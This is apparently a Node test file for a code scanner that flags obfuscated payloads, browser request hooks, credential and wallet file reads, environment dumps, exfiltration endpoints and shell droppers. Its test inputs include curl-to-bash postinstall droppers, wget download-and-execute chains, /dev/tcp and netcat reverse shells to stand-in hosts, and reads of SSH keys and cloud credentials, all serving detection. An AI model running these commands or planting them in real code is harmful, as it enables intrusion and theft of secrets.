import { strict as assert } from 'node:assert';
import { describe, test } from 'node:test';
import { scanText } from './code-scan.js';
import { minifiedBundle } from './test-support/bundle.js';

function patterns(text: string, file = 'index.js'): string[] {
  return scanText(file, text).map((hit) => hit.pattern);
}

/** Readable code around a line, so that the long-line heuristic has context. */
function readable(lines: string[]): string {
  const body = Array.from({ length: 30 }, (_, i) => `const value${i} = compute(${i});`);
  return [...body, ...lines].join('\n');
}

describe('scanText obfuscation patterns', () => {
  test('_0x identifiers: many count, a few do not', () => {
    const many = Array.from({ length: 8 }, (_, i) => `var _0x${(0x1a2b + i).toString(16)}=${i};`).join('');
    assert.ok(patterns(many).includes('_0x-identifiers'));
    assert.ok(!patterns('var _0x1a2b = 1; var _0x1a2c = 2;').includes('_0x-identifiers'));
  });

  test('hex / unicode escaped text payloads, but not escaped binary or short escapes', () => {
    const hex = [...'require("child_process")']
      .map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`)
      .join('');
    assert.ok(patterns(`var s = "${hex}";`).includes('hex-escaped-text'));
    const uni = [...'document.cookie.split(";")']
      .map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)
      .join('');
    assert.ok(patterns(`var s = "${uni}";`).includes('unicode-escaped-text'));
    const binary = Array.from(
      { length: 40 },
      (_, i) => `\\x${((i * 7) % 32).toString(16).padStart(2, '0')}`,
    ).join('');
    assert.ok(!patterns(`var table = "${binary}";`).includes('hex-escaped-text'));
    assert.deepEqual(patterns('var red = "\\x1b[31m", re = /[\\x00-\\x1f\\u2028\\u2029]/;'), []);
  });

  test('eval / new Function of decoded data, but not of plain code', () => {
    assert.ok(patterns('eval(atob("ZXZpbA=="))').includes('eval-of-decoded-data'));
    assert.ok(
      patterns("new Function(Buffer.from(p, 'base64').toString())()").includes('eval-of-decoded-data'),
    );
    assert.ok(patterns('eval(String.fromCharCode(97,108,101,114,116))').includes('eval-of-decoded-data'));
    assert.ok(
      !patterns('var g = new Function("return this")(); eval("1+1");').includes('eval-of-decoded-data'),
    );
  });

  test('code after a long run of whitespace, but not padding strings or aligned comments', () => {
    assert.ok(
      patterns(`module.exports = x;${' '.repeat(300)}require("./payload")`).includes(
        'code-after-long-whitespace',
      ),
    );
    assert.ok(!patterns(`var pad = '${' '.repeat(300)}';`).includes('code-after-long-whitespace'));
    assert.ok(!patterns(`var a = 1;${' '.repeat(200)}// note`).includes('code-after-long-whitespace'));
  });

  test('a long line appended to readable code is a weak sign; minified bundles and base64 blobs are not', () => {
    const appended = readable([`!function(){${'var q=w(e,t);'.repeat(200)}}();`]);
    const hit = scanText('index.js', appended).find((h) => h.pattern === 'long-line-in-readable-file');
    assert.equal(hit?.strength, 'weak');
    assert.equal(hit?.line, 31);
    assert.ok(
      !patterns(readable([`const wasm = "${'QUJD'.repeat(600)}";`])).includes('long-line-in-readable-file'),
    );
    assert.ok(!patterns(minifiedBundle(200_000)).includes('long-line-in-readable-file'));
  });
});

describe('scanText browser hooks, credentials, environment, network, droppers', () => {
  test('fetch, XMLHttpRequest and ethereum overrides; calls alone are not hooks', () => {
    assert.ok(
      patterns('window.fetch = async function (...a) { return orig(...a); }').includes('fetch-override'),
    );
    assert.ok(
      patterns("Object.defineProperty(globalThis, 'fetch', { value: f })").includes('fetch-override'),
    );
    assert.ok(patterns('XMLHttpRequest.prototype.open = function () {}').includes('xhr-prototype-override'));
    assert.ok(patterns("XMLHttpRequest.prototype['send'] = wrap").includes('xhr-prototype-override'));
    assert.ok(patterns('window.ethereum.request = hijack').includes('ethereum-override'));
    assert.ok(patterns('const p = new Proxy(window.ethereum, handler)').includes('ethereum-override'));
    const calls =
      "fetch('/api'); if (window.fetch === undefined) {} ethereum.request({ method: 'eth_accounts' }); xhr.open('GET', u);";
    assert.deepEqual(
      patterns(calls).filter((p) => p.endsWith('override')),
      [],
    );
  });

  test('credential and wallet paths, in joined and split forms', () => {
    assert.ok(patterns("fs.readFileSync(home + '/.npmrc')").includes('npmrc'));
    assert.ok(patterns("path.join(os.homedir(), '.ssh', 'id_rsa')").includes('ssh-keys'));
    assert.ok(patterns("path.join(home, '.aws', 'credentials')").includes('cloud-credentials'));
    assert.ok(patterns("join(home, '.config', 'gh', 'hosts.yml')").includes('git-credentials'));
    assert.ok(patterns("read('~/.git-credentials')").includes('git-credentials'));
    assert.ok(patterns("join(home, '.config', 'solana', 'id.json')").includes('crypto-wallets'));
    assert.ok(patterns("'AppData/Roaming/Exodus/exodus.wallet'").includes('crypto-wallets'));
    assert.ok(patterns("join(home, '.electrum/wallets')").includes('crypto-wallets'));
    assert.deepEqual(patterns("const config = require('./config'); const ssh = connect(host);"), []);
  });

  test('environment dumps and host fingerprints', () => {
    assert.ok(patterns('send(JSON.stringify(process.env))').includes('stringify-process-env'));
    assert.ok(
      patterns('send(JSON.stringify({ env: process.env, npmrc }))').includes('stringify-process-env'),
    );
    assert.ok(
      !patterns('log(JSON.stringify({ debug: process.env.DEBUG }))').includes('stringify-process-env'),
    );
    assert.ok(patterns('for (const k of Object.keys(process.env)) {}').includes('iterate-process-env'));
    assert.ok(patterns('const h = os.hostname();').includes('host-fingerprint'));
    assert.deepEqual(
      patterns('const env = { ...process.env, FORCE_COLOR: "1" }; const debug = process.env.DEBUG;'),
      [],
    );
  });

  test('network modules, calls and exfiltration endpoints', () => {
    assert.ok(patterns("const https = require('https')").includes('network-module'));
    assert.ok(patterns("import dns from 'node:dns'").includes('network-module'));
    assert.ok(patterns("await fetch('http://collector.invalid/')").includes('network-call'));
    assert.ok(patterns("post('https://discord.com/api/webhooks/1/abc')").includes('exfil-endpoint'));
    assert.deepEqual(patterns("const fs = require('fs'); const path = require('node:path');"), []);
  });

  test('shell droppers and reverse shells, but not downloads piped to tar', () => {
    assert.ok(
      patterns('curl -fsSL http://evil.invalid/x.sh | bash', 'package.json#scripts.postinstall').includes(
        'pipe-to-shell',
      ),
    );
    assert.ok(
      patterns('wget -q http://evil.invalid/b -O /tmp/b && chmod +x /tmp/b && /tmp/b', 's.sh').includes(
        'download-and-execute',
      ),
    );
    assert.ok(patterns('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 's.sh').includes('reverse-shell'));
    assert.ok(patterns('nc -e /bin/sh attacker.invalid 4444', 's.sh').includes('reverse-shell'));
    assert.deepEqual(
      patterns('curl -L https://github.com/o/r/releases/download/v1/bin.tgz | tar xz', 's.sh'),
      [],
    );
    assert.ok(patterns("execSync('curl -s http://x.invalid/p | sh')").includes('exec-dropper'));
    const advice = "console.log('install with: curl -fsSL https://x.invalid/install | bash')";
    assert.ok(!patterns(advice).includes('exec-dropper'));
    assert.ok(patterns(advice).includes('pipe-to-shell'));
  });

  test('many wallet addresses form an address list; a few do not', () => {
    const addresses = Array.from(
      { length: 25 },
      (_, i) => `"0x${(i + 1).toString(16).padStart(40, 'a')}"`,
    ).join(',');
    assert.ok(patterns(`const list = [${addresses}];`).includes('wallet-addresses'));
    assert.ok(
      !patterns('const REGISTRY = "0x00000000000C2E074eC69A0dFb2997BA6C7d2e1e";').includes(
        'wallet-addresses',
      ),
    );
  });

  test('evidence has a line number and an excerpt of at most ~200 characters', () => {
    const text = `line one\nline two\n${'x'.repeat(5000)} window.fetch = steal; ${'y'.repeat(5000)}`;
    const hit = scanText('a.js', text).find((h) => h.pattern === 'fetch-override');
    assert.equal(hit?.line, 3);
    assert.ok(hit && hit.excerpt.length <= 202 && hit.excerpt.includes('window.fetch = steal'));
  });
});

describe('comments', () => {
  test('URLs and paths in comments do not count, code after a string containing // does', () => {
    assert.deepEqual(patterns('// see https://pastebin.com/N21QzeQA for the crash'), []);
    assert.deepEqual(patterns(' * reads ~/.npmrc for the registry'), []);
    assert.deepEqual(patterns('x = 1; // window.fetch = f'), []);
    assert.deepEqual(patterns('# curl http://x.invalid | sh', 'setup.sh'), []);
    assert.ok(patterns("var s = ' //'; read(home + '/.npmrc')").includes('npmrc'));
    assert.ok(patterns("post('https://webhook.site/abc')").includes('exfil-endpoint'));
  });
});

describe('scanText cost', () => {
  test('a ~3 MB minified bundle scans quickly', (t) => {
    const bundle = minifiedBundle();
    const started = performance.now();
    const hits = scanText('dist/bundle.min.js', bundle);
    const ms = performance.now() - started;
    t.diagnostic(
      `scanText on ${(bundle.length / 1024 / 1024).toFixed(1)} MB minified bundle: ${ms.toFixed(0)} ms`,
    );
    assert.deepEqual(
      hits.filter((h) => h.kind === 'obfuscation'),
      [],
    );
  });
});
